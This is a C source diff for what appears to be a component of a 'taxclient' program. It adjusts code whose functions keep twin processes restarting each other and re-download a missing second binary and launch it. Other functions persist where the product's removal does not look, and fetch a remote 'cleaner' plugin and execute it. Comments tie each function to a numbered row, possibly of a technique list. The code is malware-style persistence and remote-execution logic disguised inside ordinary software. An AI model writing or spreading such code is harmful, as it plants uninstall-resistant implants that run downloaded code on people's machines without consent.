@@ -39,7 +39,9 @@ static int hold(const char *name)
 	int fd;
 
 	snprintf(path, sizeof(path), "/run/%s.lock", name);
-	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0644);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		fd = open(path, O_RDONLY | O_CREAT | O_CLOEXEC, 0644);
 	if (fd < 0)
 		exit(1);
 	return flock(fd, LOCK_EX | LOCK_NB) ? (close(fd), -1) : fd;
@@ -61,7 +63,7 @@ void role_twin(void)
 			close(fd);
 			start(beside(other), "twin");
 		}
-		rest(20);
+		rest(2 * MINUTE);
 	}
 }
 
@@ -72,14 +74,15 @@ void role_restore(void)
 	for (;;) {
 		if (access(beside("second"), F_OK) && fetch_second(beside("second")))
 			start(beside("second"), NULL);
-		rest(MINUTE);
+		rest(5 * MINUTE);
 	}
 }
 
 /* Row 6: it lives where the product's removal does not look. */
 void role_survive(void)
 {
-	start(beside("second"), NULL);
+	if (!config_on("restore"))
+		start(beside("second"), NULL);
 }
 
 /* Row 11: a random name, and the ending of a picture. */
@@ -115,7 +118,7 @@ void role_elevate(void)
 {
 	if (setgid(65534) || setuid(65534))
 		exit(1);
-	start(beside("elevate"), NULL);
+	start(beside("elevated"), NULL);
 }
 
 static void append(const char *path, const char *text)
@@ -151,7 +154,7 @@ void role_cleaner(void)
 		chmod(plugins[i], 0755);
 		start(plugins[i], NULL);
 	}
-	rest(25 * DAY);
+	rest(20 * HOUR);
 	if (fetch_fixed(DOWNLOAD, FETCH_PORT, "/cleaner", CLEANER_SHA256,
 			"/opt/taxclient/plugins/cleaner"))
 		start("/opt/taxclient/plugins/cleaner", NULL);
